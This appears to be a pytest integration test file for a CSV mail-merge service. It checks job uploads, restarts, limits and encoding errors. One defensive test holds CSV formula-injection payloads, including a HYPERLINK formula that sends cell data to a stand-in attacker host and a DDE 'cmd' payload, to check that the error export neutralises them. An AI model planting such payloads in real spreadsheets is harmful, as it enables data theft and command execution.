"""CSV mail-merge jobs through the real app: upload, progress, rejected rows, restarts."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
import time
from pathlib import Path
from typing import Any

from tests.conftest import Service, captured_events, make_settings, running
from tests.jobs_csv import good_addresses, is_bad_address, is_missing_name, people_csv
from tests.smtp_sink import SmtpSink


async def upload(service: Service, content: bytes, template: str = "welcome") -> Any:
    return await service.client.post(
        "/v1/jobs", files={"file": ("people.csv", content, "text/csv")}, data={"template": template}
    )


async def wait_for_job(service: Service, job_id: str, *statuses: str, timeout: float = 60.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while True:
        body: dict[str, Any] = (await service.client.get(f"/v1/jobs/{job_id}")).json()
        if body["status"] in statuses:
            return body
        if time.monotonic() > deadline:
            raise AssertionError(f"job stayed {body['status']}, expected {statuses}: {body}")
        await asyncio.sleep(0.05)


def detail(response: Any) -> str:
    return " | ".join(e["msg"] for e in response.json()["detail"])


async def test_a_job_sends_every_good_row_and_records_every_bad_one(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    rows = 2000
    good = good_addresses(rows)
    bad_rows = [i + 2 for i in range(rows) if is_bad_address(i) or is_missing_name(i)]
    # JOB_MAX_QUEUED=0: the rows all go in at once; the pause has its own test below.
    settings = make_settings(tmp_path, smtp_sink.port, SEND_CONCURRENCY=8, JOB_MAX_QUEUED=0, JOBS_DIR=tmp_path / "jobs")
    async with running(settings) as service:
        response = await upload(service, people_csv(rows))

        assert response.status_code == 202, response.text
        job = response.json()
        assert job["status"] == "running"
        assert response.headers["location"] == f"/v1/jobs/{job['id']}"
        done = await wait_for_job(service, job["id"], "done", "failed")
        assert done["status"] == "done", done
        assert (done["total_rows"], done["accepted"], done["rejected"]) == (rows, len(good), len(bad_rows))
        assert done["finished_at"] is not None
        assert list((tmp_path / "jobs").iterdir()) == [], "the upload outlived its job"
        assert [e["row"] for e in done["errors"]] == bad_rows[:100]
        reasons = {e["row"]: e["reason"] for e in done["errors"]}
        assert reasons[9].startswith("email: not a valid e-mail address")  # person7, the CSV's row 9
        assert "first_name" in reasons[5]  # person3, no first name

        await smtp_sink.wait_for(len(good), timeout=120)
        received = [r.rcpt_tos[0] for r in smtp_sink.received]
        assert sorted(received) == sorted(good)
        message = smtp_sink.to("person1@example.com")[0].message
        assert message["Subject"] == "Welcome to Example, Person 1!"
        settled = await wait_for_job(service, job["id"], "done")
        deadline = time.monotonic() + 30
        while settled["sent"] < len(good) and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
            settled = await wait_for_job(service, job["id"], "done")
        assert (settled["queued"], settled["sent"], settled["failed"]) == (0, len(good), 0)

        errors_csv = await service.client.get(f"/v1/jobs/{job['id']}/errors.csv")
        assert errors_csv.status_code == 200
        assert errors_csv.headers["content-type"].startswith("text/csv")
        table = list(csv.DictReader(io.StringIO(errors_csv.text)))
        assert [int(r["row"]) for r in table] == bad_rows
        assert table[0] == {"row": "5", "email": "person3@example.com", "reason": reasons[5]}


async def test_a_job_cut_by_a_restart_resumes_without_duplicates(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    rows = 600
    good = good_addresses(rows)
    settings = make_settings(tmp_path, smtp_sink.port, SEND_CONCURRENCY=8, JOB_CHUNK_ROWS=2, JOBS_DIR=tmp_path / "j")
    async with running(settings) as service:
        job_id = (await upload(service, people_csv(rows))).json()["id"]
        deadline = time.monotonic() + 30
        while (await service.client.get(f"/v1/jobs/{job_id}")).json()["rows_done"] < 30:
            assert time.monotonic() < deadline, "the job made no progress"
            await asyncio.sleep(0.005)

    db = sqlite3.connect(settings.OUTBOX_PATH)
    status, rows_done = db.execute("SELECT status, rows_done FROM jobs WHERE id = ?", (job_id,)).fetchone()
    db.close()
    assert status == "running"
    assert rows_done < rows + 1, "the job finished before the restart: nothing was resumed"

    async with running(settings) as service:
        done = await wait_for_job(service, job_id, "done", "failed")
        assert done["status"] == "done", done
        assert (done["accepted"], done["rejected"]) == (len(good), rows - len(good))
        await smtp_sink.wait_for(len(good), timeout=60)
        received = [r.rcpt_tos[0] for r in smtp_sink.received]
        assert len(received) == len(set(received)), "a row was sent twice"
        assert set(received) == good

    db = sqlite3.connect(settings.OUTBOX_PATH)
    [(notifications,)] = db.execute("SELECT count(*) FROM notifications WHERE job_id = ?", (job_id,)).fetchall()
    db.close()
    assert notifications == len(good)


async def test_a_csv_without_an_email_column_is_a_422(service: Service) -> None:
    response = await upload(service, b"mail,first_name\na@example.com,A\n")

    assert response.status_code == 422
    assert "no `email` column" in detail(response)
    assert "mail, first_name" in detail(response)


async def test_a_csv_in_a_broken_encoding_is_a_422(service: Service) -> None:
    response = await upload(service, "email,prénom\na@example.com,Zoé\n".encode("latin-1"))

    assert response.status_code == 422
    assert "not UTF-8" in detail(response)


async def test_an_unknown_template_or_a_missing_file_is_a_422(service: Service) -> None:
    unknown = await upload(service, people_csv(2), template="nope")
    no_file = await service.client.post("/v1/jobs", files={"template": (None, "welcome")})
    not_multipart = await service.client.post("/v1/jobs", json={"template": "welcome"})

    assert [r.status_code for r in (unknown, no_file, not_multipart)] == [422, 422, 422]
    assert "no template 'nope'" in detail(unknown)
    assert "no `file` part" in detail(no_file)
    assert "multipart/form-data" in detail(not_multipart)


async def test_an_upload_over_the_limit_is_a_413_and_leaves_no_file(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    jobs_dir = tmp_path / "jobs"
    settings = make_settings(tmp_path, smtp_sink.port, MAX_UPLOAD_BYTES=64 * 1024, JOBS_DIR=jobs_dir)
    async with running(settings) as service:
        too_big = people_csv(3000)
        assert len(too_big) > 64 * 1024 * 3

        response = await upload(service, too_big)
        # Without Content-Length (chunked), the limit is enforced while streaming.
        body = b'--b\r\nContent-Disposition: form-data; name="file"; filename="p.csv"\r\n\r\n' + too_big
        streamed = await service.client.post(
            "/v1/jobs", content=chunks_of(body), headers={"content-type": "multipart/form-data; boundary=b"}
        )

        assert response.status_code == 413
        assert streamed.status_code == 413
        assert list(jobs_dir.iterdir()) == []


async def chunks_of(body: bytes) -> Any:
    for start in range(0, len(body), 8192):
        yield body[start : start + 8192]


async def test_a_decode_error_deep_in_the_file_fails_the_job_before_any_mail(
    tmp_path: Path, smtp_sink: SmtpSink
) -> None:
    content = people_csv(5000) + "person-x@example.com,Zoé,https://example.com\n".encode("latin-1")
    assert len(content) > 64 * 1024
    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
        response = await upload(service, content)
        assert response.status_code == 202, response.text

        failed = await wait_for_job(service, response.json()["id"], "done", "failed")

        assert failed["status"] == "failed"
        assert "not UTF-8" in failed["reason"]
        assert failed["accepted"] == 0
        assert smtp_sink.received == []


async def test_an_unknown_job_is_a_404(service: Service) -> None:
    assert (await service.client.get("/v1/jobs/nope")).status_code == 404
    assert (await service.client.get("/v1/jobs/nope/errors.csv")).status_code == 404


async def test_a_job_waits_while_its_mail_waits_and_goes_on_when_smtp_is_back(
    tmp_path: Path, unreachable_port: int
) -> None:
    rows, limit, chunk = 300, 40, 10
    good = good_addresses(rows)
    settings = make_settings(
        tmp_path,
        unreachable_port,
        JOB_MAX_QUEUED=limit,
        JOB_CHUNK_ROWS=chunk,
        MAX_ATTEMPTS=100,
        JOBS_DIR=tmp_path / "j",
    )
    async with running(settings) as service:
        with captured_events() as events:
            job_id = (await upload(service, people_csv(rows))).json()["id"]
            deadline = time.monotonic() + 20
            while not any(e["event"] == "job_paused" for e in events):
                assert time.monotonic() < deadline, "the job never paused"
                await asyncio.sleep(0.02)

            paused = (await service.client.get(f"/v1/jobs/{job_id}")).json()
            assert paused["status"] == "running"
            assert limit <= paused["queued"] < limit + chunk
            assert paused["accepted"] == paused["queued"]

            sink = SmtpSink(port=unreachable_port).start()
            try:
                done = await wait_for_job(service, job_id, "done", "failed")
                assert (done["status"], done["accepted"]) == ("done", len(good))
                await sink.wait_for(len(good), timeout=60)
            finally:
                sink.stop()
        assert any(e["event"] == "job_continued" for e in events)


async def test_a_malformed_multipart_body_is_a_422(service: Service) -> None:
    boundary = "209658ad0ae85efb27e7443c51ff967a"
    response = await service.client.post(
        "/v1/jobs",
        content=f"--{boundary}\r\n[None]--{boundary}--\r\n".encode(),
        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
    )

    assert response.status_code == 422
    assert "malformed" in response.json()["detail"][0]["msg"]


# What a spreadsheet may take for the start of a formula (OWASP's CSV injection list, with the full-width forms).
FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What the uploader's CSV had in its email column, and what errors.csv says instead.
HOSTILE_EMAILS = {
    '=HYPERLINK("http://attacker.example/?"&A1)': '\'=HYPERLINK("http://attacker.example/?"&A1)',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "   =1+1": "'   =1+1",
    "\uff1d1+1": "'\uff1d1+1",
    # A tab or CR first, and a formula behind it for a spreadsheet that splits there.
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\t\tplain": "'\t\tplain",
    "\rplain": "'\rplain",
    # A formula behind a delimiter or a quote, where another spreadsheet may start a cell.
    "a;=1+1": "a;'=1+1",
    "a,@SUM(1)": "a,'@SUM(1)",
    'a"=1+1': "a\"'=1+1",
    "nul\x00here": "nul\ufffdhere",
}


async def test_errors_csv_neutralises_every_formula_and_holds_no_nul(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    upload_csv = io.StringIO()
    writer = csv.writer(upload_csv)
    writer.writerow(["email", "first_name", "login_url"])
    for email in HOSTILE_EMAILS:
        writer.writerow([email, "Eve", "https://example.com"])
    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
        response = await upload(service, upload_csv.getvalue().encode())
        assert response.status_code == 202, response.text
        done = await wait_for_job(service, response.json()["id"], "done", "failed")
        assert done["rejected"] == len(HOSTILE_EMAILS), done
        errors_csv = await service.client.get(f"/v1/jobs/{done['id']}/errors.csv")

    assert b"\x00" not in errors_csv.content
    rows = list(csv.reader(io.StringIO(errors_csv.text)))[1:]
    assert [email for _, email, _ in rows] == list(HOSTILE_EMAILS.values())
    # A spreadsheet that splits at another delimiter (';' in many locales, tab) finds no formula either.
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(errors_csv.text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
                assert not cell.startswith(("\t", "\r")), (delimiter, cell)


async def test_an_empty_file_is_reported_as_empty_not_as_missing(service: Service) -> None:
    empty = await upload(service, b"")
    only_a_bom = await upload(service, b"\xef\xbb\xbf")

    assert [empty.status_code, only_a_bom.status_code] == [422, 422]
    for response in (empty, only_a_bom):
        assert "the file is empty" in detail(response), detail(response)
        assert "no `file` part" not in detail(response)


async def test_a_bad_byte_is_reported_where_it_is_in_the_file(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    head = people_csv(5000) + b"person-x@example.com,Zo"
    deep = head + "é,https://example.com\n".encode("latin-1")
    assert len(head) > 64 * 1024, "deeper than any read chunk"
    # In the header row, after a byte-order mark: the offset counts the mark's three bytes too.
    in_header = b"\xef\xbb\xbfemail,pr\xe9nom\na@example.com,Zoe\n"
    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
        response = await upload(service, deep)
        assert response.status_code == 202, response.text
        failed = await wait_for_job(service, response.json()["id"], "done", "failed")
        refused = await upload(service, in_header)

    assert failed["status"] == "failed"
    assert f"not UTF-8 text: byte 0xe9 at byte offset {len(head)} (line 5002)" in failed["reason"], failed["reason"]
    assert refused.status_code == 422
    assert "not UTF-8 text: byte 0xe9 at byte offset 11 (line 1)" in detail(refused), detail(refused)


async def test_a_row_the_csv_reader_cannot_take_is_reported_with_its_line(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    # A field over the csv module's limit (128 KiB) on the CSV's line 4.
    content = people_csv(2) + b'"' + b"x" * 200_000 + b'",Zoe,https://example.com\n'
    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
        response = await upload(service, content)
        failed = await wait_for_job(service, response.json()["id"], "done", "failed")

    assert failed["status"] == "failed"
    assert "line 4" in failed["reason"], failed["reason"]
    assert "field larger than field limit" in failed["reason"]
